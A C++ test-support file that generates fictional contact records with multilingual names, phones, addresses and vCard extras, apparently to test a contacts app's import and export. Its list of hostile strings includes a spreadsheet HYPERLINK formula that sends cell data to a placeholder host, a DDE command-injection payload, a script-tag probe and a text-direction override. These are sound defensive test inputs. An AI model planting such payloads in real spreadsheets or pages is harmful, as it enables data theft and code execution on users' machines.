// SPDX-License-Identifier: Apache-2.0
#include "tests/support/fictional_people.h"

#include <algorithm>
#include <array>
#include <random>
#include <string_view>
#include <vector>

#include "core/text.h"

namespace kith::test {
namespace {

using namespace std::chrono_literals;

struct Name {
  std::string_view full, given, family, other;
};

constexpr std::array<Name, 16> kNames = {{
    {"Ada Example", "Ada", "Example", ""},
    {"Dr. Jörg van der Müller", "Jörg", "van der Müller", "Joerg Mueller"},
    {"山田 花子", "花子", "山田", "Hanako Yamada"},
    {"Łucja Żółć", "Łucja", "Żółć", ""},
    {"Ольга Примерова", "Ольга", "Примерова", "Olga Primerova"},
    {"Ελένη Παραδείγματος", "Ελένη", "Παραδείγματος", "Eleni Paradigmatos"},
    {"עדה דוגמה", "עדה", "דוגמה", "Ada Dugma"},
    {"ليلى مثال", "ليلى", "مثال", "Layla Mithal"},
    {"अदा उदाहरण", "अदा", "उदाहरण", ""},
    {"김예시", "예시", "김", "Kim Yesi"},
    {"สมหญิง ตัวอย่าง", "สมหญิง", "ตัวอย่าง", ""},
    {"Nguyễn Thị Ví Dụ", "Ví Dụ", "Nguyễn Thị", ""},
    {"Madonna", "", "", ""},
    {"", "", "", ""},
    {"O'Example, Jr. \"Al\"; \\ the 3rd", "Al", "O'Example", "A; B, \\C"},
    {"Ada 👩‍🚀 Example 🎂", "Ada 👩‍🚀", "Example 🎂", "🚀"},
}};

constexpr std::array<std::string_view, 22> kHostile = {
    "=HYPERLINK(\"http://example.com?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",
    "semi;colon, comma; \"quote\" 'single' \\ back",
    "\\n is no line break, \\, is no comma, \\\\ are two",
    "trailing backslash \\",
    "BEGIN:VCARD",
    "END:VCARD",
    "x:y;z=w,v",
    "\"",
    "^n ^' ^^ ^x",
    "%2C %3B %20 %",
    "<b>&amp;</b> <script>alert(1)</script>",
    "\u202EelpmaxE adA",
    "עברית mixed עם English",
    "zero\u200Bwidth\u200D joined",
    "👩‍🚀🎂🇩🇪 ✂️",
    "é is composed, and so is ﬁ",
    "日本語、句読点。；：",
    "null, NULL, None, undefined, NaN, 1e5, 00123",
};

std::vector<std::uint8_t> Bytes(std::mt19937& random, std::size_t count, std::string_view beginning) {
  std::vector<std::uint8_t> bytes(beginning.begin(), beginning.end());
  while (bytes.size() < count)
    bytes.push_back(static_cast<std::uint8_t>(random()));
  return bytes;
}

/// Makes one person out of a source of numbers.
class Maker {
 public:
  explicit Maker(std::uint32_t number) : number_(number), random_(number * 2654435761U + 1) {}

  WholeContact Make() {
    SetId();
    SetName();
    SetWork();
    SetReach();
    SetNotes();
    SetMeeting();
    SetExtras();
    return std::move(whole_);
  }

 private:
  ContactDetails& details() { return whole_.contact.details; }

  std::uint32_t Below(std::uint32_t limit) { return static_cast<std::uint32_t>(random_()) % limit; }
  bool OneIn(std::uint32_t count) { return Below(count) == 0; }
  std::string Number() const { return std::to_string(number_); }

  /// One line, as a field keeps it; the plain one mostly.
  std::string Text(std::string_view plain) {
    if (!OneIn(3)) return std::string(plain) + " " + std::to_string(Below(1000));
    return NormalizeText(kHostile[Below(kHostile.size())]);
  }

  void AddTo(std::vector<std::string>& list, const std::string& text) {
    const auto same = [&](const std::string& known) { return LowerCase(known) == LowerCase(text); };
    if (!text.empty() && std::none_of(list.begin(), list.end(), same)) list.push_back(text);
  }

  void SetId() {
    UuidBytes bytes{0x01, 0x93, 0x5A, 0x7C, 0, 0, 0x70, 0, 0x80};
    for (std::size_t i = 0; i < 4; ++i)
      bytes[12 + i] = static_cast<std::uint8_t>(number_ >> (24 - 8 * i));
    whole_.contact.id = ContactId(bytes);
    whole_.contact.created = whole_.contact.updated = Instant(1'790'000'000s + std::chrono::seconds(number_));
  }

  void SetName() {
    const Name& name = kNames[number_ % kNames.size()];
    details().name = {std::string(name.full), std::string(name.given), std::string(name.family)};
    if (OneIn(8) && !name.full.empty()) details().name.full = Text(name.full);
    if (!name.other.empty()) AddTo(details().other_names, std::string(name.other));
    if (OneIn(10)) AddTo(details().other_names, Text("Addie"));
  }

  void SetWork() {
    if (!OneIn(4) || details().name.full.empty()) details().organization = Text("Example Works");
    if (OneIn(3)) details().department = Text("Gardens");
    for (std::uint32_t i = Below(4); i > 0; --i)
      AddTo(details().titles, Text("Head of Roofs"));
  }

  void SetReach() {
    static constexpr std::array kTypes = {PhoneType::kMobile, PhoneType::kWork, PhoneType::kFax,
                                          PhoneType::kHome, PhoneType::kOther};
    for (std::uint32_t i = Below(5); i > 0; --i) {
      Phone phone;
      phone.number = "+1415555010" + std::to_string(i);
      if (OneIn(6)) phone.number = "0" + std::to_string(1000 + Below(9000));  // of nobody knows where
      phone.raw = phone.number;
      if (OneIn(4)) phone.extension = std::to_string(Below(10'000));
      phone.type = kTypes[Below(kTypes.size())];
      details().phones.push_back(phone);
    }
    for (std::uint32_t i = Below(4); i > 0; --i)
      AddTo(details().emails, "ada." + Number() + "+" + std::to_string(i) + "@example.com");
    if (OneIn(2)) AddTo(details().urls, "www.example.com/a,b;c/" + Number());
    if (OneIn(3)) AddTo(details().urls, "https://example.org/?q=%C3%A4&x=" + Number());
    if (OneIn(4)) AddTo(details().urls, "linkedin.com/in/ada-example-" + Number());
    if (OneIn(4)) AddTo(details().handles, "Instagram: ada_example_" + Number());
    if (OneIn(5)) AddTo(details().handles, "WeChat: ada-example-" + Number());
    if (OneIn(8)) AddTo(details().handles, "Mastodon: ada_" + Number() + "@social.example.org");
    if (OneIn(2)) AddTo(details().addresses, Number() + " Main St, Springfield, IL 62700, USA");
    if (OneIn(4)) AddTo(details().addresses, "Beispielweg " + Number() + ", 10999 Berlin");
    if (OneIn(4)) AddTo(details().addresses, Text("〒100-0001 東京都千代田区千代田1-1"));
  }

  void SetNotes() {
    std::string& notes = details().notes;
    if (number_ % 40 == 7) {
      while (notes.size() < 5000)
        notes += "Knows everything of bridges, boats; and \"bees\".\n";
    }
    for (std::uint32_t i = Below(4); i > 0; --i)
      notes += (notes.empty() ? "" : i == 2 ? "\n\n" : "\n") + Text("Brought cake");
    while (notes.ends_with('\n'))
      notes.pop_back();
    if (OneIn(20)) notes += (notes.empty() ? "" : "\n") + std::string("Likes to talk about: what they like");
    for (std::uint32_t i = Below(4); i > 0; --i)
      AddTo(whole_.contact.interests, Text("sailing, and boats"));
  }

  void SetMeeting() {
    if (OneIn(2)) {
      const auto month = std::chrono::month(1 + Below(12));
      whole_.contact.birthday = Birthday{month / std::chrono::day(1 + Below(28)), std::nullopt};
      if (OneIn(2)) whole_.contact.birthday->year = std::chrono::year(1930 + static_cast<int>(Below(80)));
      if (OneIn(10)) whole_.contact.birthday = Birthday{std::chrono::February / 29, std::nullopt};
    }
    if (OneIn(2)) whole_.contact.event = std::next(FictionalEvents().begin(), Below(3))->first;
    if (OneIn(2))
      whole_.contact.met_on = 2026y / std::chrono::month(1 + Below(12)) / std::chrono::day(1 + Below(28));
  }

  void SetExtras() {
    ContactExtras& extras = whole_.extras;
    if (OneIn(5))
      extras.pictures.push_back({Bytes(random_, 200 + Below(500), "\xFF\xD8\xFF\xE0"), "image/jpeg"});
    if (OneIn(20)) extras.pictures.push_back({Bytes(random_, 300, "\x89PNG\r\n\x1A\n"), "image/png"});
    if (OneIn(4)) extras.properties.push_back({"", "X-SPOUSE", {}, "Bob\\, the \"other\" one\\nhere", ""});
    if (OneIn(4)) {
      extras.properties.push_back({"item1", "X-ABDATE", {{"TYPE", "pref"}}, "2020-05-17", ""});
      extras.properties.push_back({"item1", "X-ABLABEL", {}, "_$!<Anniversary>!$_", ""});
    }
    if (OneIn(4)) {
      extras.properties.push_back({"Group-2",
                                   "RELATED",
                                   {{"TYPE", "friend"}, {"X-NOTE", "a; \"b\"\nc: ^d, e"}},
                                   "urn:uuid:01935a7c-0000-7000-8000-0000000000ff",
                                   ""});
      extras.properties.push_back({"Group-2", "X-ABLABEL", {}, "Freund🎂", ""});
    }
    if (OneIn(6)) extras.properties.push_back({"", "GENDER", {}, "F;it's complicated", ""});
    if (OneIn(6)) extras.properties.push_back({"", "X-LONG", {}, std::string(300, 'x') + "é" + Number(), ""});
  }

  std::uint32_t number_;
  std::mt19937 random_;
  WholeContact whole_;
};

}  // namespace

WholeContact FictionalPerson(std::uint32_t number) {
  return Maker(number).Make();
}

const std::map<EventId, std::string>& FictionalEvents() {
  static const std::map<EventId, std::string> events = {
      {EventId(UuidBytes{0x01, 0x93, 0x5A, 0x7C, 0, 0, 0x70, 0, 0x80, 1}), "Example Meetup, Autumn"},
      {EventId(UuidBytes{0x01, 0x93, 0x5A, 0x7C, 0, 0, 0x70, 0, 0x80, 2}), "=Looms; & \"Logic\""},
      {EventId(UuidBytes{0x01, 0x93, 0x5A, 0x7C, 0, 0, 0x70, 0, 0x80, 3}), "東京の集まり 🎂"}};
  return events;
}

}  // namespace kith::test
